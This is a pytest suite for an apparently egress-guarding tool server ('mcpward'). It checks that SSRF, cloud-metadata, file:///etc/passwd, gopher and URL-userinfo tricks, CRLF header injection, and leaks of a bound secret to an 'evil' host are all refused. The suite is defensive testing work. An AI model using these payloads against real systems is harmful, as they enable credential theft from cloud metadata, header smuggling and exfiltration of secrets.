"""A tool of the shipped process is talked into calling out: into its own network (attacks 80 and 81), with a header of
two lines (attack 83), with a bound secret to the wrong place. Servers on loopback are called by no such request.
"""

import asyncio
import json
import ssl
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

from mcpward.egress.failures import EgressRefused
from mcpward.egress.host import read_host
from mcpward.egress.url import parse
from support.outside import Outside, certificate_for, outside
from support.outside import http as answer
from support.ward import Ward, serving, text_of
from support.wire import reason_of

VALUE = "sk_live_51Hxy+z/Canary~4711"
TOOLS = f'''
import sys
from base64 import b64encode
from mcpward import Server, env, http, run
from mcpward.core.secret import Secret

server = Server("shop", version="1.0")
bound: dict[int, Secret] = {{}}


def key(port: int) -> Secret:
    hosts = [f"localhost:{{port}}"]
    return bound.setdefault(port, Secret("{VALUE}", "SHOP_KEY", hosts=hosts, is_http_only=port % 2 == 0))


@server.tool(read_only=True)
async def fetch(urls: list[str]) -> list[str]:
    """Fetch each, and say what came of it."""
    outcomes = []
    for url in urls:
        try:
            outcomes.append(str((await http.get(url, follow_redirects=True)).status))
        except http.HttpError as error:
            outcomes.append(error.why)
    return outcomes


@server.tool(read_only=True)
async def shouted(text: str) -> str:
    """Run a program."""
    code = "import os, sys; print(sys.argv[1] + os.environ['KEY'] + str(len(os.environ)))"
    secret = Secret("the-key", "KEY")
    return (await run([sys.executable, "-c", code, text], env={{"KEY": secret, "LC_ALL": "C"}})).check().text


@server.tool(read_only=True)
async def headed(name: str, value: str, url: str) -> int:
    """Fetch with a header."""
    return (await http.get(url, headers={{name: value}})).status


@server.tool(read_only=True)
async def send(how: str, url: str, port: int) -> int:
    """Send the secret somewhere."""
    secret = key(port)
    bearer = {{"Authorization": secret.template("Bearer {{}}")}}
    given = {{
        "bearer": dict(headers=bearer),
        "basic": dict(auth=("me", secret)),
        "redirected": dict(headers=bearer, follow_redirects=True),
        "query": dict(params={{"key": secret}}),
        "json": dict(json={{"key": secret}}),
        "form": dict(data={{"key": secret}}),
        "header": dict(headers={{"X-Debug": secret}}),
        "cookie": dict(headers={{"Cookie": secret.template("s={{}}")}}),
        "revealed": dict(headers={{"Authorization": "Bearer {VALUE}"}}),
        "revealed in the query": dict(params={{"key": "{VALUE}"}}),
        "revealed in base64": dict(content=b64encode(b"{VALUE}")),
    }}[how]
    return (await http.request("POST", url, **given)).status
'''
TOOLS += '''

@server.tool(read_only=True)
async def vaulted(url: str) -> int:
    """Send a secret of the vault."""
    return (await http.get(url, headers={"X-Api-Key": env.VAULT_KEY})).status


@server.tool(read_only=True)
async def unveiled() -> str:
    """Read it."""
    return env.VAULT_KEY.reveal()
'''
PLACES = (
    "bearer", "basic", "redirected", "query", "json", "form", "header", "cookie", "revealed", "revealed in the query",
    "revealed in base64",
)  # fmt: skip
SERVERS = '[servers.demo]\nsource = "tools.py"\n[servers.demo.limits]\nread = "100000/minute"\nrepeat_read = ""\n'


@pytest.fixture(scope="module")
def certificates(tmp_path_factory) -> tuple[Path, ssl.SSLContext]:
    folder = tmp_path_factory.mktemp("tls")
    served, _ = certificate_for("localhost", folder, "127.0.0.1")
    return folder / "outside.pem", served


def served(folder: Path, toml: str, env: dict[str, str]) -> Iterator[Ward]:
    with serving(folder, toml, SERVERS, start=False, env=env) as ward:
        (ward.folder / "tools.py").write_text(TOOLS)
        ward.start()
        ward.key = ward.create_key()
        yield ward


@pytest.fixture(scope="module")
def closed(tmp_path_factory) -> Iterator[Ward]:
    """A site that may call no private network."""
    yield from served(tmp_path_factory.mktemp("closed"), "", {})


@pytest.fixture(scope="module")
def opened(tmp_path_factory, certificates) -> Iterator[Ward]:
    """A site that may call servers on loopback."""
    toml = '[egress]\nallow = ["127.0.0.0/8", "::1/128"]\n'
    yield from served(tmp_path_factory.mktemp("opened"), toml, {"SSL_CERT_FILE": str(certificates[0])})


@pytest.fixture
async def api(certificates) -> AsyncIterator[Outside]:
    async with outside(tls=certificates[1]) as there:
        yield there


@pytest.fixture
async def evil(certificates) -> AsyncIterator[Outside]:
    async with outside(tls=certificates[1]) as there:
        yield there


async def call(ward: Ward, tool: str, **arguments: Any) -> Any:
    return await asyncio.to_thread(ward.call, tool, arguments)


async def test_attack_80_no_known_trick_leads_a_tool_into_its_own_network(closed, corpora) -> None:
    known = json.loads((corpora / "ssrf_urls.json").read_text())
    urls = [url for url in known if not is_name(url)]
    assert len(urls) > 200
    async with outside() as canary:
        port = canary.port
        urls += [f"{scheme}://{host}:{port}/" for scheme in ("http", "https") for host in SELF]
        outcomes = json.loads(text_of(await call(closed, "fetch", urls=urls)))
        assert len(outcomes) == len(urls)
        assert {*outcomes} <= {
            "host-refused", "address-refused", "url-malformed", "userinfo-refused", "fragment-refused",
            "scheme-refused", "plain-refused",
        }  # fmt: skip
        assert canary.connections == 0


def is_name(url: str) -> bool:
    """Whether a URL has a name, of which the process would ask DNS. In test_egress.py DNS is the test itself."""
    try:
        return isinstance(read_host(parse(url).host), str)
    except EgressRefused:
        return False


#: Spellings of this machine; localhost is a name that resolves to it.
SELF = (
    "127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "2130706433", "0x7f000001",
    "127.1", "0177.0.0.1", "localhost.", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "169.254.169.254", "[fd00:ec2::254]",
)  # fmt: skip


async def test_attack_80_a_redirect_leads_a_tool_to_no_credentials_of_the_cloud(opened, api, evil) -> None:
    for place in ("http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "file:///etc/passwd",
                  "gopher://127.0.0.1/_x", f"https://user@localhost:{evil.port}/"):  # fmt: skip
        api.answer = answer(status=302, location=place)
        (outcome,) = json.loads(text_of(await call(opened, "fetch", urls=[api.url("/", "localhost", "https")])))
        assert outcome in {"address-refused", "scheme-refused", "userinfo-refused"}
    assert evil.connections == 0


async def test_attack_81_a_tool_uses_http_and_no_user_in_a_url(opened, evil) -> None:
    place = f"localhost:{evil.port}"
    urls = [
        f"https://user@{place}/", f"https://user:pass@{place}/", f"https://@{place}/", f"https://{place}@example.com/",
        f"https://example.com#@{place}/", "file:///etc/passwd", f"file://{place}/etc/passwd", f"gopher://{place}/_GET",
        "data:text/plain,x", f"ftp://{place}/", f"dict://{place}/", f"//{place}/", f"https:\\\\{place}/",
        f"https://{place}\\@example.com/", f"h\nttps://{place}/", f" https://{place}/",
    ]  # fmt: skip
    outcomes = json.loads(text_of(await call(opened, "fetch", urls=urls)))
    assert {*outcomes} <= {"userinfo-refused", "fragment-refused", "scheme-refused", "url-malformed", "host-refused"}
    assert evil.connections == 0


@pytest.mark.parametrize("value", ["a\r\nX-Admin: 1", "a\nb", "a\r\n\r\nGET / HTTP/1.1", "a\0b", "\u560a\u560d"])
async def test_attack_83_a_value_becomes_no_second_header(opened, api, value) -> None:
    url = api.url("/", "localhost", "https")
    assert reason_of(await call(opened, "headed", name="X-Name", value=value, url=url)) == "tool-failed"
    assert reason_of(await call(opened, "headed", name=value, value="a", url=url)) == "tool-failed"
    assert api.connections == 0


async def test_a_bound_secret_reaches_its_host_from_a_tool(opened, api) -> None:
    for how in ("bearer", "basic", "revealed"):
        sent = await call(opened, "send", how=how, url=api.url("/", "localhost", "https"), port=api.port)
        assert text_of(sent) == "200"
    assert [VALUE.encode() in request for request in api.requests] == [True, False, True]


@pytest.mark.parametrize("how", PLACES)
async def test_a_bound_secret_of_a_tool_goes_nowhere_else(opened, api, evil, how) -> None:
    """Another port, the address, http, a URL, a body, another header, a redirect: none of its bytes is seen there."""
    api.answer = answer(status=307, location=evil.url("/there", "localhost", "https"))
    async with outside() as plain:
        urls = [
            evil.url("/", "localhost", "https"), evil.url("/", "127.0.0.1", "https"),
            api.url("/", "127.0.0.1", "https"), plain.url("/", "localhost"), f"https://localhost:{api.port}@127.0.0.1:{evil.port}/",
        ]  # fmt: skip
        if how not in {"bearer", "basic", "redirected", "revealed"}:
            urls.append(api.url("/", "localhost", "https"))
        for url in urls:
            refused = await call(opened, "send", how=how, url=url, port=api.port)
            assert reason_of(refused) == "tool-failed"
            assert "SHOP_KEY" not in refused.text
            assert "localhost" not in refused.text
        assert (api.connections, evil.connections, plain.connections) == (0, 0, 0)
    if how == "redirected":
        await call(opened, "send", how=how, url=api.url("/", "localhost", "https"), port=api.port)
        assert [VALUE.encode() in one for one in (api.requests[0], evil.requests[0])] == [True, False]
    assert "the secret SHOP_KEY is bound" in opened.log()
    assert VALUE not in opened.log()


async def test_a_secret_that_an_operator_binds_goes_to_its_host_alone_and_tools_cannot_read_it(
    opened, api, evil
) -> None:
    words = ["secret", "set", "VAULT_KEY", "--server", "demo", "--host", f"localhost:{api.port}", "--http-only"]
    await asyncio.to_thread(opened.cli, *words, input="canary-vault-71c0")
    there = api.url("/", "localhost", "https")
    while reason_of(sent := await call(opened, "vaulted", url=there)) == "tool-failed":  # until the worker has it
        assert api.connections == 0
    assert text_of(sent) == "200"
    assert b"canary-vault-71c0" in api.requests[0]
    for url in (evil.url("/", "localhost", "https"), api.url("/?k=1", "127.0.0.1", "https")):
        assert reason_of(await call(opened, "vaulted", url=url)) == "tool-failed"
    assert reason_of(await call(opened, "unveiled")) == "tool-failed"
    assert evil.connections == 0
    assert "canary-vault-71c0" not in opened.log()


async def test_a_tool_of_the_process_runs_a_program(opened) -> None:
    (shown,) = text_of(await call(opened, "shouted", text="$HOME; id")).splitlines()
    assert shown.startswith("$HOME; idthe-key")
    assert int(shown.removeprefix("$HOME; idthe-key")) <= 11
